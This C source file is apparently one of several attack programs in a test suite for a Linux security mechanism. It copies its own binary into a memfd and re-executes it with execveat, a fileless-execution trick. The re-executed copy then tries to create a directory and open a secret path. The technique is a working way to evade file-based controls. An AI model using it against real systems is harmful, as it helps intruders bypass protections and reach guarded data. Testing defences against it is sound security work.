/* SPDX-License-Identifier: GPL-3.0-or-later */
/* A program that is no file: a copy of ourselves in a memfd. */
#include <sys/sendfile.h>

#include "attack.h"

int main(int argc, char **argv)
{
        char *const arguments[] = {argv[0], "deed", NULL};
        int memory, self;

        if (is_second_image(argc, argv)) {
                deed_mkdir();
                deed_open(secret_path());
                return 0;
        }
        memory = memfd_create("image", 0);
        self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
        while (sendfile(memory, self, NULL, 1 << 20) > 0)
                ;
        syscall(SYS_execveat, memory, "", arguments, environ, AT_EMPTY_PATH);
        return 1;
}
